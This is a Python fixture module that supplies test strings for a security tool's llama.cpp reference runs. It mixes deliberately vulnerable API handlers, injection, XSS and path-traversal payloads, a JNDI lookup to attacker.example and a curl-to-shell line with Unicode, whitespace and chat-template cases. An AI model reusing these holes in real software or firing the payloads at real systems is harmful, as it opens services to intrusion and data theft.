"""Deterministic text corpus for the llama.cpp reference fixtures.

Everything here is plain data plus a few loops; no randomness, so rerunning
`make_fixtures.py` reproduces byte-identical inputs. The corpus is aimed at what
vigil feeds its models: API handler source in seven languages, raw HTTP traffic,
scanner output, plus the usual tokenizer edge cases (Unicode, whitespace runs,
numbers, special-token strings).
"""

from __future__ import annotations

# ---------------------------------------------------------------------------
# Code snippets: API handlers, SQL, config, in the languages of the mission.
# ---------------------------------------------------------------------------

PYTHON = [
    '@app.route("/api/users/<int:user_id>")\ndef get_user(user_id):\n    row = db.execute(f"SELECT * FROM users WHERE id = {user_id}").fetchone()\n    return jsonify(dict(row))\n',
    "from fastapi import FastAPI, Depends, HTTPException\n\napp = FastAPI()\n\n@app.get(\"/items/{item_id}\")\nasync def read_item(item_id: int, q: str | None = None):\n    if item_id < 0:\n        raise HTTPException(status_code=404, detail=\"Item not found\")\n    return {\"item_id\": item_id, \"q\": q}\n",
    "def transfer(request):\n    amount = int(request.POST['amount'])\n    to = Account.objects.get(pk=request.POST['to'])\n    request.user.account.balance -= amount\n    to.balance += amount\n    return HttpResponse('ok')\n",
    "cursor.execute(\"SELECT name FROM products WHERE category = %s AND price < %s\", (cat, max_price))",
    "import subprocess\nsubprocess.call('ping -c 1 ' + host, shell=True)",
    "    # TODO: validate the token\n    token = request.headers.get('Authorization', '').removeprefix('Bearer ')\n",
    "class Config:\n\tDEBUG = True\n\tSECRET_KEY = 'dev'  # noqa\n",
    "yaml.load(open(path))  # unsafe loader",
    "pickle.loads(base64.b64decode(request.cookies['session']))",
    "lambda x: x**2 if x>0 else -x//3 % 7",
    "print(f'{value!r:>10}', end='')",
    "async with aiohttp.ClientSession() as s:\n        async with s.get(url, ssl=False) as r:\n            return await r.text()",
]

JAVASCRIPT = [
    "app.get('/api/orders/:id', async (req, res) => {\n  const order = await Order.findById(req.params.id);\n  res.json(order);\n});\n",
    "router.post('/login', (req, res) => {\n  const q = `SELECT * FROM users WHERE email = '${req.body.email}' AND pw = '${req.body.pw}'`;\n  db.query(q, (err, rows) => res.send(rows));\n});",
    "document.getElementById('out').innerHTML = location.hash.slice(1);",
    "const token = jwt.sign({ sub: user.id }, process.env.JWT_SECRET, { expiresIn: '1h' });",
    "@Controller('cats')\nexport class CatsController {\n  constructor(private readonly catsService: CatsService) {}\n\n  @Get(':id')\n  findOne(@Param('id', ParseIntPipe) id: number): Promise<Cat> {\n    return this.catsService.findOne(id);\n  }\n}\n",
    "interface User { id: number; email?: string; roles: ReadonlyArray<'admin' | 'user'> }",
    "res.setHeader('Access-Control-Allow-Origin', req.headers.origin || '*');",
    "const x = a ?? b?.c?.[0] ?? (() => {})();",
    "eval(req.query.expr)",
    "for (let i = 0; i < arr.length; i++) { sum += arr[i] >>> 0; }",
    "export default function Page({ params }: { params: { slug: string } }) {\n  return <div dangerouslySetInnerHTML={{ __html: params.slug }} />;\n}",
]

JAVA = [
    "@RestController\n@RequestMapping(\"/api/accounts\")\npublic class AccountController {\n    @GetMapping(\"/{id}\")\n    public Account get(@PathVariable Long id) {\n        return repo.findById(id).orElseThrow();\n    }\n}\n",
    "String sql = \"SELECT * FROM accounts WHERE owner = '\" + request.getParameter(\"owner\") + \"'\";\nStatement st = conn.createStatement();\nResultSet rs = st.executeQuery(sql);",
    "PreparedStatement ps = conn.prepareStatement(\"UPDATE users SET email = ? WHERE id = ?\");\nps.setString(1, email);\nps.setLong(2, id);",
    "ObjectInputStream in = new ObjectInputStream(req.getInputStream());\nObject o = in.readObject();",
    "public static void main(String[] args) throws Exception {\n\tSystem.out.println(\"Hello, World!\");\n}",
    "Map<String, List<Integer>> m = new HashMap<>();",
]

PHP = [
    "<?php\n$id = $_GET['id'];\n$result = mysqli_query($conn, \"SELECT * FROM users WHERE id = $id\");\nwhile ($row = mysqli_fetch_assoc($result)) {\n    echo $row['name'];\n}\n?>",
    "Route::get('/users/{id}', function ($id) {\n    return User::findOrFail($id);\n})->middleware('auth:sanctum');",
    "echo \"<p>Hello, \" . $_REQUEST['name'] . \"</p>\";",
    "public function update(Request $request, Post $post)\n{\n    $post->fill($request->all())->save();\n    return redirect()->route('posts.show', $post);\n}",
    "include($_GET['page'] . '.php');",
]

GO = [
    "func getUser(c *gin.Context) {\n\tid := c.Param(\"id\")\n\tvar u User\n\tif err := db.Raw(\"SELECT * FROM users WHERE id = \" + id).Scan(&u).Error; err != nil {\n\t\tc.JSON(http.StatusInternalServerError, gin.H{\"error\": err.Error()})\n\t\treturn\n\t}\n\tc.JSON(http.StatusOK, u)\n}\n",
    "r := gin.Default()\nr.GET(\"/ping\", func(c *gin.Context) { c.String(200, \"pong\") })\nr.Run(\":8080\")",
    "cmd := exec.Command(\"sh\", \"-c\", \"ls \"+dir)\nout, _ := cmd.CombinedOutput()",
    "type Claims struct {\n\tUserID int64  `json:\"uid\"`\n\tRole   string `json:\"role,omitempty\"`\n}",
    "if err != nil {\n\treturn nil, fmt.Errorf(\"open %q: %w\", path, err)\n}",
]

RUBY = [
    "class UsersController < ApplicationController\n  def show\n    @user = User.find(params[:id])\n    render json: @user\n  end\nend\n",
    "User.where(\"name = '#{params[:name]}'\")",
    "def update\n  @post.update(params.require(:post).permit!)\n  redirect_to @post, notice: 'Updated.'\nend",
    "system(\"convert #{params[:file]} out.png\")",
    "%w[a b c].each_with_index.map { |s, i| \"#{i}:#{s}\" }",
]

CSHARP = [
    "[ApiController]\n[Route(\"api/[controller]\")]\npublic class InvoicesController : ControllerBase\n{\n    [HttpGet(\"{id}\")]\n    public async Task<ActionResult<Invoice>> Get(int id) => await _db.Invoices.FindAsync(id);\n}\n",
    "var cmd = new SqlCommand(\"SELECT * FROM Orders WHERE CustomerId = '\" + Request.Query[\"c\"] + \"'\", conn);",
    "app.MapPost(\"/upload\", async (IFormFile file) => {\n    using var s = File.Create(Path.Combine(\"uploads\", file.FileName));\n    await file.CopyToAsync(s);\n});",
    "public record Person(string Name, int Age);",
    "services.AddCors(o => o.AddPolicy(\"all\", p => p.AllowAnyOrigin().AllowAnyHeader().AllowCredentials()));",
]

SQL_AND_CONFIG = [
    "SELECT u.id, u.email, COUNT(o.id) AS orders FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE u.created_at >= '2024-01-01' GROUP BY u.id HAVING COUNT(o.id) > 3 ORDER BY orders DESC LIMIT 10;",
    "' OR '1'='1' --",
    "1; DROP TABLE users;--",
    "admin'/*",
    "UNION SELECT NULL, username, password FROM users--",
    "CREATE TABLE training_data (id INTEGER PRIMARY KEY, request TEXT NOT NULL, response TEXT, label INTEGER CHECK (label IN (0, 1)));",
    "{\"model\": \"smollm2\", \"messages\": [{\"role\": \"user\", \"content\": \"hi\"}], \"stream\": true}",
    "[server]\nhost = \"127.0.0.1\"\nport = 8080\n\n[model]\npath = \"~/.cache/vigil/model.gguf\"\n",
    "version: '3'\nservices:\n  web:\n    image: nginx:1.25\n    ports:\n      - \"80:80\"\n",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "CWE-89: Improper Neutralization of Special Elements used in an SQL Command ('SQL Injection')",
    "OWASP API1:2023 Broken Object Level Authorization",
    "Severity: HIGH | Confidence: 0.93 | File: src/api/users.py:42",
    "#!/usr/bin/env bash\nset -euo pipefail\ncurl -sSf https://example.com/install.sh | sh\n",
    "diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -1,3 +1,3 @@\n-query = f\"SELECT * FROM t WHERE id={i}\"\n+query = \"SELECT * FROM t WHERE id=?\"\n",
]

# ---------------------------------------------------------------------------
# HTTP traffic: requests and responses with headers, CRLF line endings.
# ---------------------------------------------------------------------------

HTTP = [
    "GET /api/v1/users/42 HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.sig\r\nAccept: application/json\r\n\r\n",
    "POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 29\r\n\r\nusername=admin&password=admin",
    "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nSet-Cookie: sessionid=abc123; Path=/\r\nServer: Apache/2.4.41 (Ubuntu)\r\nX-Powered-By: PHP/7.4.3\r\n\r\n<html><body>Welcome</body></html>",
    "HTTP/2 302 Found\r\nlocation: https://evil.example/?next=%2Fadmin\r\naccess-control-allow-origin: *\r\naccess-control-allow-credentials: true\r\n\r\n",
    "HTTP/1.1 500 Internal Server Error\r\nContent-Type: text/plain\r\n\r\nTraceback (most recent call last):\n  File \"/app/views.py\", line 17, in index\n    raise ValueError(\"boom\")\nValueError: boom\n",
    "PUT /api/profile HTTP/1.1\r\nHost: a.b\r\nCookie: token=xyz; theme=dark\r\nContent-Type: application/json\r\n\r\n{\"role\":\"admin\",\"isAdmin\":true}",
    "HTTP/1.1 200 OK\r\nStrict-Transport-Security: max-age=31536000; includeSubDomains\r\nContent-Security-Policy: default-src 'self'; script-src 'self' 'unsafe-inline'\r\nX-Frame-Options: DENY\r\nX-Content-Type-Options: nosniff\r\nReferrer-Policy: no-referrer\r\n\r\n",
    "OPTIONS /graphql HTTP/1.1\r\nOrigin: https://attacker.example\r\nAccess-Control-Request-Method: POST\r\n\r\n",
    "GET /search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&page=2 HTTP/1.1\nHost: example.org\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0\n\n",
    "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"admin\"\r\nContent-Length: 0\r\n\r\n",
    "DELETE /api/users/7 HTTP/1.1\r\nHost: internal:8443\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n",
]

# ---------------------------------------------------------------------------
# Prose and assorted short strings.
# ---------------------------------------------------------------------------

PROSE = [
    "Hello world",
    "Hello, world!",
    " Hello world",
    "hello",
    "HELLO",
    "The quick brown fox jumps over the lazy dog.",
    "The endpoint concatenates user input into a SQL query, allowing an attacker to read arbitrary rows.",
    "Use parameterized queries and validate the id as an integer before it reaches the database.",
    "This finding is a false positive: the reflected value is HTML-encoded by the template engine.",
    "I'm sure you'll agree it's what they've done, isn't it? We'd say so.",
    "e.g. i.e. etc. Mr. Dr. U.S.A.",
    "state-of-the-art, well-known, re-enter",
    "a",
    "ab",
    " ",
    "\n",
    "\t",
    "A",
    ".",
    "!!!???...",
    "----------",
    "==========",
    "**bold** _italic_ `code` ~~strike~~",
    "# Title\n\n## Section\n\n- item one\n- item two\n\n1. first\n2. second\n",
    "| col1 | col2 |\n|------|------|\n| a    | b    |\n",
    "```python\nprint('hi')\n```",
    "user@example.com https://www.example.com/path?x=1&y=2#frag",
    "C:\\Users\\admin\\AppData\\Local\\Temp\\payload.exe",
    "/usr/local/bin/../lib/python3.11/site-packages",
    "UPPER lower MiXeD CamelCase snake_case kebab-case SCREAMING_CASE",
    "don't DON'T Don't",
    "'quoted' \"double\" `back`",
    "(parens) [brackets] {braces} <angles>",
    "@#$%^&*()_+-=[]{}|;':\",./<>?",
    "a\\nb",
    "\\u0041\\x41",
]

# ---------------------------------------------------------------------------
# Unicode.
# ---------------------------------------------------------------------------

UNICODE = [
    "你好，世界",
    "漏洞扫描器发现了SQL注入。",
    "日本語のテキストとカタカナ、ひらがな。",
    "한국어 문장입니다.",
    "Привет, мир! Уязвимость найдена.",
    "Γειά σου Κόσμε",
    "مرحبا بالعالم",
    "שלום עולם",
    "العربية mixed with English and 123",
    "हिन्दी में वाक्य",
    "ภาษาไทย",
    "Tiếng Việt có dấu",
    "café naïve résumé façade coöperate",
    "Ångström Øre Æsir ß ẞ",
    "e\u0301 a\u0300 o\u0308 n\u0303",  # combining marks
    "Z\u0351\u036b\u0343a\u0365\u0352l\u0314g\u0300o",  # zalgo-ish
    "\u200b\u200c\u200d\ufeff",  # zero-width characters
    "\u202eevil.exe\u202c",  # right-to-left override
    "😀",
    "🔒🔑🛡️",
    "👨‍👩‍👧‍👦",  # ZWJ family
    "👍🏽",  # skin tone modifier
    "🇺🇸🇯🇵",  # flags
    "Security 🔥 alert 🚨: fix now ✅",
    "∑∫∂√∞≠≤≥±×÷",
    "→ ← ↑ ↓ ⇒ ⇔",
    "“smart quotes” ‘single’ — en–dash … ellipsis",
    "½ ¼ ¾ ² ³ µ °C",
    "€100 £50 ¥1000 ₹500 ₿0.01",
    "ﬁ ﬂ ＡＢＣ　全角",
    "\U0001d400\U0001d401\U0001d402",  # mathematical bold
    "\u00a0non-breaking\u00a0space",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "Ā ā Ē ē Ī ī",
    "🤖 + 🧠 = 💡",
]

# ---------------------------------------------------------------------------
# Numbers.
# ---------------------------------------------------------------------------

NUMBERS = [
    "0",
    "7",
    "42",
    "123",
    "1234",
    "12345",
    "123456789",
    "3.14159",
    "-17",
    "1e-5",
    "6.02e23",
    "0x7fffffff",
    "0b1011",
    "1,000,000",
    "1 000 000",
    "2024-06-01T12:34:56Z",
    "192.168.0.1:8080",
    "::1",
    "v1.2.3-rc.4",
    "CVE-2021-44228",
    "1/2 + 3/4 = 5/4",
    "99.9%",
    "000123",
    "3..5",
    "$1,234.56",
]


def _whitespace_cases() -> list[str]:
    """Runs of spaces, tabs and newlines around words, built by loops."""
    out: list[str] = []
    for n in (1, 2, 3, 4, 5, 8, 16):
        out.append(" " * n)
        out.append("x" + " " * n + "y")
    for n in (1, 2, 3, 4):
        out.append("\t" * n)
        out.append("if x:\n" + "\t" * n + "pass")
    for n in (1, 2, 3, 5):
        out.append("\n" * n)
        out.append("a" + "\n" * n + "b")
    for n in (1, 2, 3):
        out.append("\r\n" * n)
        out.append("line1" + "\r\n" * n + "line2")
    out += [
        " \t \n \r\n ",
        "   leading spaces",
        "trailing spaces   ",
        "\n\nleading newlines",
        "trailing newline\n",
        "mixed \t tabs\t and  spaces",
        "\r",
        "a\rb",
        "    def f():\n        return 1\n",
        "  \n  \n",
        "word\u3000ideographic space",
    ]
    return out


def _special_token_cases(specials: list[str]) -> list[str]:
    """Strings that embed the model's own control tokens (parsed because special=True)."""
    out: list[str] = []
    for s in specials:
        out += [
            s,
            s + "hello",
            "hello" + s,
            " " + s + " ",
            s + "\n" + s,
            "text " + s + "\nmore text",
        ]
    return out


# Control tokens by model family; the fixture script keeps only those that the
# vocab actually holds as single tokens, and always adds the bos/eos strings.
SPECIALS = {
    "chatml": ["<|im_start|>", "<|im_end|>", "<|endoftext|>"],
    "gemma": ["<start_of_turn>", "<end_of_turn>", "<bos>", "<eos>", "<pad>"],
}

CHATML_DOCS = [
    "<|im_start|>system\nYou are a security analyst.<|im_end|>\n<|im_start|>user\nIs this code vulnerable?<|im_end|>\n<|im_start|>assistant\n",
    "<|im_start|>user\nhi<|im_end|>\n<|im_start|>assistant\nHello! How can I help?<|im_end|>\n",
    "<|im_start|>assistant\n<|im_end|>",
    "<|im_start|><|im_end|><|im_start|>",
    "<|im_start|user",  # malformed: must NOT be parsed as a special token
    "<|im_end |>",
]

GEMMA_DOCS = [
    "<start_of_turn>user\nIs this code vulnerable?<end_of_turn>\n<start_of_turn>model\n",
    "<start_of_turn>user\nhi<end_of_turn>\n<start_of_turn>model\nHello!<end_of_turn>\n",
    "<start_of_turn><end_of_turn>",
    "<start_of_turn user",  # malformed
    "<bos><bos>",
]


def base_corpus() -> list[str]:
    """All model-independent strings, in a stable order, de-duplicated."""
    groups = [
        [""],
        PYTHON, JAVASCRIPT, JAVA, PHP, GO, RUBY, CSHARP, SQL_AND_CONFIG,
        HTTP, PROSE, UNICODE, NUMBERS, _whitespace_cases(),
    ]
    seen: set[str] = set()
    out: list[str] = []
    for g in groups:
        for s in g:
            if s not in seen:
                seen.add(s)
                out.append(s)
    # Variants that stress word-boundary handling: a leading space, a leading
    # newline, and each snippet's first line alone.
    extra: list[str] = []
    for s in PYTHON[:6] + JAVASCRIPT[:4] + JAVA[:3] + GO[:2] + PROSE[5:9] + UNICODE[:6]:
        extra.append(" " + s)
        extra.append("\n" + s)
    for s in PYTHON + JAVASCRIPT + JAVA + PHP + GO + RUBY + CSHARP:
        first = s.split("\n", 1)[0]
        extra.append(first)
    for s in extra:
        if s not in seen:
            seen.add(s)
            out.append(s)
    return out


def model_corpus(family: str, specials: list[str]) -> list[str]:
    """The base corpus plus the special-token strings for one model family."""
    out = base_corpus()
    seen = set(out)
    docs = CHATML_DOCS if family == "chatml" else GEMMA_DOCS
    for s in _special_token_cases(specials) + docs:
        if s not in seen:
            seen.add(s)
            out.append(s)
    return out


# ---------------------------------------------------------------------------
# Prompts for logits and greedy fixtures.
# ---------------------------------------------------------------------------

LOGIT_PROMPTS = [
    PYTHON[0], PYTHON[1], PYTHON[2], JAVASCRIPT[0], JAVASCRIPT[1], JAVASCRIPT[4],
    JAVA[0], JAVA[1], PHP[0], PHP[1], GO[0], RUBY[0], RUBY[2], CSHARP[0], CSHARP[2],
    HTTP[0], HTTP[2], HTTP[4], HTTP[6],
    SQL_AND_CONFIG[0], SQL_AND_CONFIG[20],
    "The OWASP API Security Top 10 lists the most critical risks for APIs. The first is broken object level authorization, where an API exposes object identifiers and fails to check that the caller may access the object. The second is broken authentication.",
    "Once upon a time, in a small village at the edge of a forest, there lived an old clockmaker who repaired every clock in town except his own.",
    "Paris is the capital of France. Berlin is the capital of Germany. Madrid is the capital of",
    "1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25",
    UNICODE[1] + " " + UNICODE[4] + " " + UNICODE[12] + " " + UNICODE[23],
    HTTP[1], HTTP[3], HTTP[5], HTTP[8],
    PYTHON[3] + "\n" + PYTHON[4] + "\n" + PYTHON[8],
    JAVA[2] + "\n" + JAVA[3],
    GO[1] + "\n" + GO[2] + "\n" + GO[3],
    RUBY[1] + "\n" + RUBY[3] + "\n" + PHP[2] + "\n" + PHP[4],
    "Finding: reflected XSS in /search?q=. The response echoes the q parameter inside a script block without encoding. Verdict: true positive. Severity: medium. Fix: HTML-encode the value and send a Content-Security-Policy header.",
]

GREEDY_PROMPTS = [
    "The capital of France is",
    "def fibonacci(n):\n",
    "SQL injection is a vulnerability that",
    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n",
    "// Express handler that returns a user by id\napp.get('/users/:id', ",
    "Once upon a time",
    "The three most common web vulnerabilities are",
    "public class UserController {\n",
    "<?php\n$id = $_GET['id'];\n",
    "1, 1, 2, 3, 5, 8,",
    "Security headers every web application should send:",
    "func main() {\n",
    "Q: What does HTTPS protect against?\nA:",
    "import os\nimport sys\n\n",
    "Cross-site request forgery (CSRF) is",
    "SELECT * FROM users WHERE",
]

# Chat conversations for greedy continuations rendered with the model's template.
GREEDY_CHATS = [
    [{"role": "user", "content": "What is SQL injection?"}],
    [{"role": "system", "content": "You are a concise security assistant."},
     {"role": "user", "content": "Is `eval(req.query.x)` safe in Node.js?"}],
    [{"role": "user", "content": "Write a Python function that adds two numbers."}],
    [{"role": "user", "content": "What is the capital of France?"}],
    [{"role": "user", "content": "Explain CORS in one sentence."}],
    [{"role": "system", "content": "Answer with one word."},
     {"role": "user", "content": "Is HTTPS encrypted?"}],
]

# Message lists for chat_template.json.
TEMPLATE_CASES = [
    [{"role": "system", "content": "You are a security analyst."},
     {"role": "user", "content": "Review this handler."}],
    [{"role": "user", "content": "Hello!"}],
    [{"role": "user", "content": "What is XSS?"},
     {"role": "assistant", "content": "Cross-site scripting: injecting script into a page."},
     {"role": "user", "content": "And how do I prevent it?"}],
    [{"role": "system", "content": "Be brief."},
     {"role": "user", "content": "Hi"},
     {"role": "assistant", "content": "Hello."},
     {"role": "user", "content": "Bye"},
     {"role": "assistant", "content": "Goodbye."}],
    [{"role": "user", "content": "Is this safe?\n\n```python\nos.system('rm -rf ' + path)\n```\n\nThanks <3 & \"cheers\" {{not jinja}} {% raw %}"}],
    [{"role": "user", "content": ""}],
    [{"role": "system", "content": ""}, {"role": "user", "content": "empty system"}],
    [{"role": "user", "content": "  leading and trailing spaces  \n"}],
    [{"role": "user", "content": "Unicode: 你好 🔒 café \u202eRTL\u202c"}],
    [{"role": "user", "content": "GET / HTTP/1.1\r\nHost: x\r\n\r\n"}],
    [{"role": "assistant", "content": "An assistant turn first."},
     {"role": "user", "content": "Then the user."}],
]

# Complete conversations (with an assistant answer) rendered through the model's
# chat template for the teacher-forced logits fixture.
LOGIT_CHATS = [
    [{"role": "system", "content": "You are a security analyst. Answer with a verdict and a reason."},
     {"role": "user", "content": "Is this vulnerable?\n\n" + PYTHON[0]},
     {"role": "assistant", "content": "Yes. SQL injection (CWE-89): user_id is formatted into the query string. Use a parameterized query."}],
    [{"role": "user", "content": "What does the X-Frame-Options header do?"},
     {"role": "assistant", "content": "It tells the browser whether the page may be shown inside a frame, which prevents clickjacking."}],
    [{"role": "user", "content": "Summarise: " + HTTP[2]},
     {"role": "assistant", "content": "A 200 response that leaks server and PHP versions and sets a session cookie without HttpOnly or Secure."}],
]
